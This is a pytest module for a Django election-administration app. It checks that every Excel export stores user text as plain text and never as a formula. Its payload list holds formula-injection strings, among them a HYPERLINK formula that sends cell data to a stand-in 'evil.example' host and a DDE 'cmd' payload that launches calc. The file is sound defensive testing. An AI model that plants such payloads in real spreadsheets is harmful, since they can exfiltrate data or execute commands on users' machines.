"""Formula injection (issue 14, item 1): every text cell of every Excel export is text.

A payload corpus is put into real data (applicant names, an indikator, pegawai names, budget
lines and SP2D numbers) and downloaded through each export URL by a user allowed to download.
The workbook is opened keeping formulas (``data_only=False``): no cell is a formula, each text
is the payload exactly, and a text starting with ``= + - @``, tab or CR carries Excel's
``quotePrefix`` so it stays text when a user edits the cell. The sheet XML has no ``<f>``.
``test_every_export_has_a_test_here`` lists every call of the shared writer in the apps, so a
new export without a test here fails.
"""

from __future__ import annotations

import ast
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from badan_adhoc import selectors as adhoc_selectors
from badan_adhoc.models import Pendaftar
from kpu_site import excel
from kpu_site.excel import XLSX_MIME
from tests.anggaran.factories import DokumenAnggaranFactory, pohon_kecil
from tests.badan_adhoc.conftest import (  # noqa: F401 (fixtures)
    diseleksi,
    rekrutmen_kpps,
    rekrutmen_pps,
    staf_teknis,
    wilayah_uji,
)
from tests.kinerja.factories import IndikatorFactory, RenstraFactory, SasaranFactory
from tests.sekretariat.factories import PegawaiFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent

PAYLOAD = [
    '=HYPERLINK("http://evil.example/?x="&A3,"Klik")',
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
# What Excel and LibreOffice read as the start of a formula (OWASP, "CSV injection")
AWALAN_RUMUS = ("=", "+", "-", "@", "\t", "\r")
_XSTRING = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _teks(value: str) -> str:
    """A text cell as Excel reads it: ECMA-376 ``ST_Xstring`` escapes (``_x000D_`` is CR,
    ``_x005F_`` a literal underscore) decoded; openpyxl's reader leaves them as they are."""
    return _XSTRING.sub(lambda m: chr(int(m.group(1), 16)), value)


def _periksa(data: bytes, harus_ada: list[str]) -> list[tuple]:
    """Check one exported workbook; return its rows (texts decoded) for export-specific checks."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        lembar = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert lembar
        for nama in lembar:
            xml = z.read(nama).decode()
            assert not re.search(r"<(\w+:)?f[\s/>]", xml), f"{nama} holds a formula element"
    wb = load_workbook(io.BytesIO(data), data_only=False)
    teks_semua, rows = set(), []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            values = []
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                value = cell.value
                if isinstance(value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.data_type)
                    value = _teks(value)
                    teks_semua.add(value)
                    if value.startswith(AWALAN_RUMUS):
                        assert cell.quotePrefix, (cell.coordinate, value)
                values.append(value)
            rows.append(tuple(values))
    for payload in harus_ada:
        assert payload in teks_semua, f"{payload!r} is not a cell of its own, exactly"
    return rows


def _unduh(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == XLSX_MIME
    return response.getvalue()  # a streamed file


# --------------------------------------------------------------------------- the shared writer


def test_writer_keeps_text_as_text_and_numbers_as_numbers():
    data = excel.xlsx_bytes(
        judul="=1+1",
        kolom=["=Kolom", "Nilai"],
        baris=[[p, -i - 1] for i, p in enumerate(PAYLOAD)]
        + [["-", Decimal("-1500.50")], ["#N/A", -0.5], ["biasa", 7]],
        format_kolom={1: "rupiah"},
    )
    rows = _periksa(data, [*PAYLOAD, "=1+1", "=Kolom", "#N/A"])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].font.b and ws["A2"].font.b and ws.freeze_panes == "A3"
    assert rows[2:] == [(p, -i - 1) for i, p in enumerate(PAYLOAD)] + [
        ("-", -1500.5),
        ("#N/A", -0.5),
        ("biasa", 7),
    ]
    for cell in ws["B"][2:]:
        assert cell.data_type == "n" and not cell.quotePrefix
    assert ws["B11"].number_format == '"Rp" #,##0.00'
    assert ws["A12"].data_type == "s"  # an error code typed as text is text
    assert not ws["A13"].quotePrefix  # ordinary text is left alone


def test_writer_keeps_control_characters_and_escape_lookalikes_exact():
    teks = ["a\x01b", "baris\r\nbaru", "_x0041_", "tab\tdi tengah"]
    data = excel.xlsx_bytes(judul="Uji", kolom=["Teks"], baris=[[t] for t in teks])
    rows = _periksa(data, teks)
    assert [r[0] for r in rows[2:]] == teks


# --------------------------------------------------------------------------- the exports


def test_pendaftar_export(masuk, diseleksi, staf_teknis):  # noqa: F811
    for p, payload in zip(Pendaftar.objects.order_by("pk"), PAYLOAD, strict=False):
        Pendaftar.objects.filter(pk=p.pk).update(nama=payload)
    url = reverse("badan_adhoc:pendaftar_export", args=[diseleksi.pk])
    rows = _periksa(_unduh(masuk(staf_teknis), url), PAYLOAD)
    nik = {r[0]: r[1] for r in rows[2:]}
    assert nik["3673011205900001"] == PAYLOAD[0]  # the full NIK (Teknis) beside the payload


def test_pendaftar_impor_ulang_export(masuk, diseleksi, staf_teknis):  # noqa: F811
    for p, payload in zip(Pendaftar.objects.order_by("pk"), PAYLOAD, strict=False):
        Pendaftar.objects.filter(pk=p.pk).update(nama=payload, alamat=payload)
    url = reverse("badan_adhoc:pendaftar_export_impor", args=[diseleksi.pk])
    rows = _periksa(_unduh(masuk(staf_teknis), url), PAYLOAD)
    baris = {r[0]: r for r in rows[2:]}
    assert baris["3673011205900001"][1] == baris["3673011205900001"][7] == PAYLOAD[0]


def test_pengumuman_export(
    masuk,
    diseleksi,  # noqa: F811
    staf_teknis,  # noqa: F811
    django_capture_on_commit_callbacks,
    tugas_dalam_proses,
):
    kec = adhoc_selectors.kecamatan_list().first()
    terdaftar = [
        p.pk
        for g in adhoc_selectors.pengumuman_grup(diseleksi, tahap="administrasi", kecamatan=kec.pk)
        for p in g["rows"]
    ]
    assert len(terdaftar) >= len(PAYLOAD)
    for pk, payload in zip(terdaftar, PAYLOAD, strict=False):
        Pendaftar.objects.filter(pk=pk).update(nama=payload)
    url = reverse("badan_adhoc:pengumuman_excel", args=[diseleksi.pk]) + f"?kecamatan={kec.pk}"
    client = masuk(staf_teknis)
    with django_capture_on_commit_callbacks(execute=True):
        client.get(url)  # requests the background job; no broker: rendered on commit
    _periksa(_unduh(client, url), PAYLOAD)  # the stored workbook


def test_pegawai_export(masuk, auditor, unit_demo):
    for payload in PAYLOAD:
        PegawaiFactory(nama=payload)
    _periksa(_unduh(masuk(auditor), reverse("sekretariat:pegawai_export")), PAYLOAD)


def test_capaian_export(masuk, auditor):
    sasaran = SasaranFactory(tujuan__renstra=RenstraFactory(tahun_mulai=2020, tahun_selesai=2024))
    for payload in PAYLOAD:
        IndikatorFactory(sasaran=sasaran, uraian=payload)
    url = reverse("kinerja:capaian", kwargs={"tahun": 2023}) + "?format=xlsx"
    _periksa(_unduh(masuk(auditor), url), PAYLOAD)


def test_pk_target_export(masuk, auditor):
    """The PK's targets (read back by the target import, ``kinerja/impor.py``)."""
    from tests.kinerja.factories import PerjanjianKinerjaFactory, PKBarisFactory

    sasaran = SasaranFactory(tujuan__renstra=RenstraFactory(tahun_mulai=2020, tahun_selesai=2024))
    pk = PerjanjianKinerjaFactory(tahun=2023)
    for payload in PAYLOAD:
        PKBarisFactory(
            perjanjian=pk, indikator=IndikatorFactory(sasaran=sasaran, kode=payload[:20])
        )
    url = reverse("kinerja:pk_detail", kwargs={"tahun": 2023}) + "?format=xlsx"
    _periksa(_unduh(masuk(auditor), url), [p[:20] for p in PAYLOAD])


def test_realisasi_kinerja_export(masuk, auditor):
    """TW I–IV of every indikator (read back by the realisasi import)."""
    from kinerja.models import Realisasi

    sasaran = SasaranFactory(tujuan__renstra=RenstraFactory(tahun_mulai=2020, tahun_selesai=2024))
    for payload in PAYLOAD:
        indikator = IndikatorFactory(sasaran=sasaran, uraian=payload)
        Realisasi.objects.create(
            indikator=indikator, tahun=2023, periode="tw1", nilai=1, analisis=payload
        )
    url = reverse("kinerja:realisasi_list", kwargs={"tahun": 2023}) + "?format=xlsx"
    _periksa(_unduh(masuk(auditor), url), PAYLOAD)


@pytest.fixture
def dipa_rawan(sekretaris):
    """A DIPA whose number, budget lines and SP2D carry the payloads (stored through the model:
    the services strip the leading tab/CR a form would)."""
    from anggaran import services
    from anggaran.models import DokumenAnggaran, Pos, Realisasi

    dokumen = DokumenAnggaranFactory()
    pohon = pohon_kecil(dokumen, sekretaris, pagu_akun=(Decimal("100000000"), Decimal("500000")))
    for i in range(len(PAYLOAD)):
        services.realisasi_create(
            pengguna=sekretaris,
            akun=pohon["akun"][0],
            tanggal=date(2023, 1 + i, 5),
            nomor_sp2d=f"SP2D-{i}",
            nilai=Decimal("1000"),
        )
    for r, payload in zip(Realisasi.objects.order_by("pk"), PAYLOAD, strict=True):
        Realisasi.objects.filter(pk=r.pk).update(
            nomor_sp2d=payload, nomor_spm=payload, uraian=payload
        )
    pos = list(Pos.objects.filter(dokumen=dokumen).order_by("pk"))
    for p, payload in zip(pos, PAYLOAD * 2, strict=False):
        satuan = payload if len(payload) <= 30 else "@satuan"  # satuan: varchar(30)
        Pos.objects.filter(pk=p.pk).update(uraian=payload, satuan=satuan)
    DokumenAnggaran.objects.filter(pk=dokumen.pk).update(nomor="=1+1")
    dokumen.refresh_from_db()
    return dokumen


def test_pohon_anggaran_export(masuk, auditor, dipa_rawan):
    url = reverse("anggaran:dokumen_detail", args=[dipa_rawan.pk]) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD)
    assert rows[0][0].startswith("=1+1 (2023)")  # the title starts with the DIPA number


def test_realisasi_export(masuk, auditor, dipa_rawan):
    url = reverse("anggaran:realisasi_list", args=[dipa_rawan.pk]) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD)
    assert {r[5] for r in rows[2:]} == {1000}  # the amounts stay numbers


def test_templat_impor_export(masuk, staf_keuangan):
    """An import's filled example: the column names the import reads under the title, the
    example values as text (a code stays ``076.01…``, an amount ``150.000``), no formula."""
    url = reverse("templat_impor", args=["realisasi", "contoh"])
    rows = _periksa(_unduh(masuk(staf_keuangan), url), [])
    assert rows[1] == ("tanggal", "nomor_sp2d", "kode_akun", "uraian", "nilai", "nomor_spm")
    assert rows[2][2] == "076.01.CQ.6701.QGE.001.051.A.521211" and rows[2][4] == "150.000"


def test_serapan_export(masuk, auditor, dipa_rawan):
    url = reverse("anggaran:serapan", args=[dipa_rawan.pk]) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), [])
    assert rows[0][0] == "Serapan bulanan =1+1 (2023)"


def test_laporan_export(masuk, auditor, dipa_rawan):
    url = reverse("anggaran:laporan", kwargs={"tahun": 2023}) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD[:2])
    assert [r[1] for r in rows[2:4]] == PAYLOAD[:2]  # program and kegiatan lines


def test_output_ro_export(masuk, auditor, dipa_rawan):
    """The RO output table: the RO's code, name and satuan carry payloads; figures stay numbers."""
    from anggaran import services_output
    from anggaran.models import Pos

    ro = Pos.objects.get(dokumen=dipa_rawan, tingkat="ro")
    services_output.volume_ro_set(pengguna=None, ro=ro, volume=Decimal("6"), satuan="Laporan")
    Pos.objects.filter(pk=ro.pk).update(uraian=PAYLOAD[0], satuan=PAYLOAD[1])
    url = reverse("anggaran:output_list", args=[dipa_rawan.pk]) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD[:2])
    assert rows[0][0].startswith("Target dan realisasi volume RO =1+1 (2023)")
    assert rows[2][1:5] == (PAYLOAD[0], None, 6, PAYLOAD[1])  # no unit pengampu: empty
    # the per-month download (the import's columns): the note carries a payload
    from anggaran.models import RealisasiOutput

    RealisasiOutput.objects.create(
        ro=ro, bulan=3, volume=Decimal("1.5"), tanggal_lapor=date(2023, 4, 5), keterangan=PAYLOAD[2]
    )
    url = reverse("anggaran:output_list", args=[dipa_rawan.pk]) + "?unduh=xlsx-bulan"
    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD[:1] + PAYLOAD[2:3])
    assert rows[1][:6] == ("Kode RO", "Uraian", "Bulan", "Volume", "Tanggal lapor", "Keterangan")
    assert rows[2][1:4] == (PAYLOAD[0], "Maret", 1.5) and rows[2][5] == PAYLOAD[2]


def test_ikpa_export(masuk, auditor, dipa_rawan):
    """The IKPA table: the DIPA number in the title is text; the values stay numbers."""
    url = reverse("anggaran:ikpa", kwargs={"tahun": 2023}) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), [])
    assert rows[0][0] == "IKPA =1+1 per bulan"
    nilai = [r for r in rows[2:] if r[1] == "Nilai IKPA"]
    assert len(nilai) == 12 and all(isinstance(r[2], int | float) for r in nilai)


def test_register_up_export(masuk, auditor, dipa_rawan):
    """The UP/TUP register: numbers and remarks carry payloads; amounts stay numbers."""
    from anggaran.models import MutasiUp

    for i, payload in enumerate(PAYLOAD[:3]):
        MutasiUp.objects.create(
            dokumen=dipa_rawan,
            jenis="up" if i == 0 else "gup",
            nomor=f"UP-{i}",
            tanggal=date(2023, 1 + i, 10),
            nilai=Decimal("1000000"),
            keterangan=payload,
        )
    MutasiUp.objects.filter(dokumen=dipa_rawan, nomor="UP-1").update(nomor=PAYLOAD[3])
    url = reverse("anggaran:mutasi_up_list", args=[dipa_rawan.pk]) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), [*PAYLOAD[:4]])
    assert rows[0][0].startswith("Register UP/TUP =1+1 (2023)")
    assert [r[4] for r in rows[2:]] == [1000000, 1000000, 1000000]


def test_dispensasi_export(masuk, auditor, dipa_rawan):
    """SPM dispensations: the letter number and reason carry payloads; the count is a number."""
    from anggaran.models import DispensasiSpm

    for i, payload in enumerate(PAYLOAD[4:6]):
        DispensasiSpm.objects.create(
            dokumen=dipa_rawan,
            nomor=payload,
            tanggal=date(2023, 12, 20 + i),
            jumlah_spm=2,
            alasan=PAYLOAD[i],
        )
    url = reverse("anggaran:dispensasi_list", args=[dipa_rawan.pk]) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), [*PAYLOAD[:2], *PAYLOAD[4:6]])
    assert [r[2] for r in rows[2:]] == [2, 2]


def test_kontrak_tagihan_export(masuk, auditor, dipa_rawan):
    """Contracts and invoices: numbers, supplier and work carry payloads; amounts, working days
    and dates stay numbers and dates."""
    from anggaran.models import Kontrak, Pos, Tagihan

    akun = Pos.objects.get(dokumen=dipa_rawan, tingkat="akun", kode="521211")
    kontrak = Kontrak.objects.create(
        dokumen=dipa_rawan,
        akun=akun,
        nomor=PAYLOAD[0],
        tanggal=date(2023, 2, 1),
        tanggal_selesai=date(2023, 3, 1),
        penyedia=PAYLOAD[1],
        uraian=PAYLOAD[2],
        nilai=Decimal("5000000"),
    )
    Tagihan.objects.create(
        kontrak=kontrak,
        nomor=PAYLOAD[3],
        tanggal_bast=date(2023, 3, 1),
        tanggal_spm=date(2023, 3, 6),
        nilai=Decimal("5000000"),
    )
    url = reverse("anggaran:kontrak_list", args=[dipa_rawan.pk]) + "?unduh=xlsx"
    rows = _periksa(_unduh(masuk(auditor), url), PAYLOAD[:4])
    assert rows[0][0].startswith("Kontrak dan tagihan =1+1 (2023)")
    assert (rows[2][5], rows[2][11], rows[2][12]) == (5000000, 5000000, 3)
    assert (rows[2][6], rows[2][15]) == ("belum diverifikasi", "belum diverifikasi")


def test_data_acuan_export(masuk, wilayah_uji, rekrutmen_pps, staf_teknis):  # noqa: F811
    """Wilayah, TPS, party members and scores (``badan_adhoc/views/ekspor.py``): names and
    parties carry payloads; codes stay text, numbers (TPS, DPT, scores) stay numbers."""
    from badan_adhoc.models import TPS, AnggotaParpol, Wilayah
    from badan_adhoc.services import pendaftar_import, pendaftar_screen

    Wilayah.objects.filter(kode="36.73.01").update(nama=PAYLOAD[0])
    AnggotaParpol.objects.create(nik="3673012207890012", nama=PAYLOAD[1], partai=PAYLOAD[2])
    kel = "36.73.01.1001"
    pendaftar_import(
        rekrutmen=rekrutmen_pps,
        berkas=(
            "nik;nama;jenis_kelamin;tempat_lahir;tanggal_lahir;pendidikan;kode_domisili;alamat;"
            f"no_hp;email;kode_wilayah_tujuan\n3673011003800000;{PAYLOAD[3]};L;Serang;"
            f"1980-03-10;SMA;{kel};x;1;;{kel}\n"
        ).encode(),
        nama_berkas="p.csv",
    )
    pendaftar_screen(rekrutmen=rekrutmen_pps)
    rekrutmen_pps.pendaftar.update(nilai_cat=Decimal("85.5"))
    client = masuk(staf_teknis)

    rows = _periksa(_unduh(client, reverse("badan_adhoc:wilayah_export")), PAYLOAD[:1])
    assert rows[1] == ("Kode", "Nama", "Jenis", "Kode induk")
    assert rows[2] == ("36.73.01", PAYLOAD[0], "kecamatan", "36.73")
    rows = _periksa(_unduh(client, reverse("badan_adhoc:tps_export")), [])
    assert rows[2] == ("36.73.01.1001", 1, 280) and len(rows) == 2 + TPS.objects.count()
    rows = _periksa(_unduh(client, reverse("badan_adhoc:parpol_export")), PAYLOAD[1:3])
    assert rows[1:] == [("NIK", "Nama", "Partai"), ("3673012207890012", PAYLOAD[1], PAYLOAD[2])]
    url = reverse("badan_adhoc:nilai_export", args=[rekrutmen_pps.pk])
    rows = _periksa(_unduh(client, url), PAYLOAD[3:4])
    assert rows[2] == ("3673011003800000", PAYLOAD[3], 85.5, None)


# --------------------------------------------------------------------------- completeness

# Every place in the apps that writes an Excel download, with the test above that covers it.
EKSPOR_DIUJI = {
    "anggaran/views/dokumen.py::DokumenDetailView": "test_pohon_anggaran_export",
    "anggaran/views/ikpa.py::IkpaView": "test_ikpa_export",
    "anggaran/views/up.py::MutasiUpListView": "test_register_up_export",
    "anggaran/views/up.py::DispensasiListView": "test_dispensasi_export",
    "anggaran/views/belanja.py::KontrakListView": "test_kontrak_tagihan_export",
    "anggaran/views/laporan.py::LaporanView": "test_laporan_export",
    "anggaran/views/laporan.py::SerapanView": "test_serapan_export",
    "anggaran/views/output.py::OutputRoListView": "test_output_ro_export",
    "anggaran/views/realisasi.py::RealisasiListView": "test_realisasi_export",
    "kpu_site/views_impor.py::TemplatImporView": "test_templat_impor_export",
    "badan_adhoc/pengumuman.py::pengumuman_xlsx_tulis": "test_pengumuman_export",
    "badan_adhoc/ekspor.py::pendaftar_xlsx_tulis": "test_pendaftar_export",
    "badan_adhoc/views/pendaftar.py::PendaftarExportView": "test_pendaftar_export",
    "badan_adhoc/ekspor.py::pendaftar_impor_ulang_tulis": "test_pendaftar_impor_ulang_export",
    "badan_adhoc/views/ekspor.py::PendaftarImporUlangView": "test_pendaftar_impor_ulang_export",
    "badan_adhoc/views/ekspor.py::_EksporView": "test_data_acuan_export",
    "kinerja/views/capaian.py::CapaianView": "test_capaian_export",
    "kinerja/views/perencanaan.py::PKDetailView": "test_pk_target_export",
    "kinerja/views/realisasi.py::RealisasiListView": "test_realisasi_kinerja_export",
    "sekretariat/views.py::PegawaiExportView": "test_pegawai_export",
}
APPS = ("kpu_site", "kinerja", "anggaran", "badan_adhoc", "sekretariat")


def _sumber():
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            if "migrations" not in path.parts:
                yield path.relative_to(ROOT).as_posix(), path.read_text(encoding="utf-8")


def _ekspor_di(nama: str, teks: str):
    """``<file>::<outermost class or function>`` of each call of the shared writer."""
    pohon = ast.parse(teks)
    induk = {anak: node for node in ast.walk(pohon) for anak in ast.iter_child_nodes(node)}
    for node in ast.walk(pohon):
        func = getattr(node, "func", None)
        if isinstance(node, ast.Call) and getattr(func, "id", getattr(func, "attr", None)) in (
            "xlsx_response",
            "xlsx_bytes",
            "xlsx_tulis",
            "xlsx_tulis_response",
        ):
            luar, n = None, node
            while n in induk:
                n = induk[n]
                if isinstance(n, ast.ClassDef | ast.FunctionDef | ast.AsyncFunctionDef):
                    luar = n.name
            yield f"{nama}::{luar or '<modul>'}"


def test_every_export_has_a_test_here():
    ditemukan = {
        ekspor
        for nama, teks in _sumber()
        if nama != "kpu_site/excel.py"
        for ekspor in _ekspor_di(nama, teks)
    }
    assert ditemukan == set(EKSPOR_DIUJI)
    for test in EKSPOR_DIUJI.values():
        assert callable(globals()[test]), test


def test_no_export_writes_xlsx_past_the_shared_writer():
    """openpyxl is imported only by the writer and (to read uploads) the importer; the XLSX
    MIME type is written only by the writer and by ``kpu_site/berkas.py``, which serves an
    uploaded evidence file of that kind as it was stored (it writes no workbook)."""
    for nama, teks in _sumber():
        if nama == "kpu_site/excel.py":
            continue
        for node in ast.walk(ast.parse(teks)):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                assert nama == "kpu_site/impor.py", nama
                assert [a.name for a in node.names] == ["load_workbook"], nama
            if isinstance(node, ast.Import):
                assert not any(a.name.startswith("openpyxl") for a in node.names), nama
        if nama != "kpu_site/berkas.py":
            assert "spreadsheetml" not in teks and "XLSX_MIME" not in teks, nama
        else:
            assert "openpyxl" not in teks and "XLSX_MIME" not in teks
